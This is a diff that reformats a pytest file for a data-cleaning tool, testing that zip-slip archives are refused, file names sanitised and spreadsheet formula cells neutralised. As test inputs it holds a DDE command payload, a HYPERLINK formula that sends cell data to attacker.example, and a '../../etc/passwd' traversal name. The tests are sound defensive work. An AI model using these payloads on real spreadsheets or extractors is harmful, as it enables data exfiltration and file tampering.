@@ -1,5 +1,6 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """Hostile files (tests/data/hostile/) are refused or neutralised, and nothing leaves the output folder."""
+
 from __future__ import annotations
 
 import csv
@@ -39,12 +40,15 @@ def _files_under(folder):
     return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*"))
 
 
-@pytest.mark.parametrize("name, reason", [
-    ("zip_slip.zip", "'..'"),
-    ("zip_absolute.zip", "absolute path"),
-    ("zip_windows_drive.zip", "absolute path"),
-    ("zip_symlink.zip", "symbolic link"),
-])
+@pytest.mark.parametrize(
+    "name, reason",
+    [
+        ("zip_slip.zip", "'..'"),
+        ("zip_absolute.zip", "absolute path"),
+        ("zip_windows_drive.zip", "absolute path"),
+        ("zip_symlink.zip", "symbolic link"),
+    ],
+)
 def test_unsafe_zip_member_is_refused_and_nothing_written(hostile, sandbox, name, reason):
     with pytest.raises(CartongError) as err:
         safe_extract_zip(hostile / name, sandbox)
@@ -90,8 +94,13 @@ def test_good_zip_is_extracted_inside_the_folder(hostile, sandbox):
 
 def test_odd_member_names_are_renamed_on_extraction(hostile, sandbox):
     safe_extract_zip(hostile / "odd_names.zip", sandbox)
-    assert _files_under(sandbox) == ["_CON.csv", "hidden.csv", "rapport_ final_.csv",
-                                     "sous_dossier_", "sous_dossier_/_nul.txt"]
+    assert _files_under(sandbox) == [
+        "_CON.csv",
+        "hidden.csv",
+        "rapport_ final_.csv",
+        "sous_dossier_",
+        "sous_dossier_/_nul.txt",
+    ]
 
 
 def test_zip_with_names_differing_only_by_case_is_refused(hostile, sandbox):
@@ -105,15 +114,18 @@ def test_not_a_zip_gives_a_clear_error(hostile):
         safe_extract_zip(hostile / "formula_cells.csv", hostile)
 
 
-@pytest.mark.parametrize("value, expected", [
-    ("=1+1", "'=1+1"),
-    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("+236 72 11 22 33", "'+236 72 11 22 33"),
-])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("+236 72 11 22 33", "'+236 72 11 22 33"),
+    ],
+)
 def test_formula_like_cell_is_neutralised(value, expected):
     assert neutralise_cell(value) == expected
 
@@ -136,7 +148,7 @@ def test_neutralised_hostile_csv_has_no_cell_a_spreadsheet_would_run(hostile, tm
     numbers = re.compile(r"^[+-]?\d+(\.\d+)?$")  # "+23672112233" opens as a number: harmless
     dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not numbers.match(c)]
     assert dangerous == []
-    assert "'=HYPERLINK(\"http://attacker.example/?x=\"&A3,\"click\")" in cells
+    assert '\'=HYPERLINK("http://attacker.example/?x="&A3,"click")' in cells
     assert "-12.5" in cells  # a number stays a number
 
 
@@ -145,8 +157,7 @@ def test_neutralise_row_keeps_dict_keys():
 
 
 def test_xlsx_with_external_link_is_refused(hostile):
-    assert inspect_xlsx(hostile / "xlsx_external_link.xlsx").external_links == [
-        "http://attacker.example/collect.xlsx"]
+    assert inspect_xlsx(hostile / "xlsx_external_link.xlsx").external_links == ["http://attacker.example/collect.xlsx"]
     with pytest.raises(CartongError) as err:
         check_xlsx_is_safe(hostile / "xlsx_external_link.xlsx")
     assert "xlsx_external_link.xlsx was refused" in str(err.value)
@@ -171,18 +182,21 @@ def test_xlsx_with_values_only_is_safe_even_with_text_starting_with_equals(hosti
     assert check_xlsx_is_safe(hostile / "xlsx_values_only.xlsx", refuse_formulas=True) == []
 
 
-@pytest.mark.parametrize("name, expected", [
-    ("../../etc/passwd", "etc_passwd"),
-    ("C:\\Windows\\system32.dll", "C_Windows_system32.dll"),
-    ("CON", "_CON"),
-    ("nul.csv", "_nul.csv"),
-    ("com1.tar.gz", "_com1.tar.gz"),
-    ("rapport: final?.gpkg", "rapport_ final_.gpkg"),
-    ("Enquête <WASH> \"Bangui\".csv", "Enquête _WASH_ _Bangui_.csv"),
-    ("  .hidden. ", "hidden"),
-    ("", "output"),
-    ("tab\there\nnewline.csv", "tab_here_newline.csv"),
-])
+@pytest.mark.parametrize(
+    "name, expected",
+    [
+        ("../../etc/passwd", "etc_passwd"),
+        ("C:\\Windows\\system32.dll", "C_Windows_system32.dll"),
+        ("CON", "_CON"),
+        ("nul.csv", "_nul.csv"),
+        ("com1.tar.gz", "_com1.tar.gz"),
+        ("rapport: final?.gpkg", "rapport_ final_.gpkg"),
+        ('Enquête <WASH> "Bangui".csv', "Enquête _WASH_ _Bangui_.csv"),
+        ("  .hidden. ", "hidden"),
+        ("", "output"),
+        ("tab\there\nnewline.csv", "tab_here_newline.csv"),
+    ],
+)
 def test_filename_is_sanitised(name, expected):
     assert sanitise_filename(name) == expected
 
@@ -252,7 +266,7 @@ def test_xlsx_written_by_gdal_with_neutralised_cells_holds_no_formula(tmp_path):
     ds = ogr.GetDriverByName("XLSX").CreateDataSource(str(path))
     layer = ds.CreateLayer("cleaning_log", geom_type=ogr.wkbNone)
     layer.CreateField(ogr.FieldDefn("new_value", ogr.OFTString))
-    for value in ("=HYPERLINK(\"http://attacker.example\")", "@SUM(1)", "ok"):
+    for value in ('=HYPERLINK("http://attacker.example")', "@SUM(1)", "ok"):
         feature = ogr.Feature(layer.GetLayerDefn())
         feature.SetField("new_value", neutralise_cell(value))
         layer.CreateFeature(feature)
@@ -261,4 +275,4 @@ def test_xlsx_written_by_gdal_with_neutralised_cells_holds_no_formula(tmp_path):
     back = ogr.Open(str(path))
     values = [f.GetField(0) for f in back.GetLayer(0)][-3:]  # read back every cell as written
     back = None
-    assert values == ["'=HYPERLINK(\"http://attacker.example\")", "'@SUM(1)", "ok"]
+    assert values == ['\'=HYPERLINK("http://attacker.example")', "'@SUM(1)", "ok"]
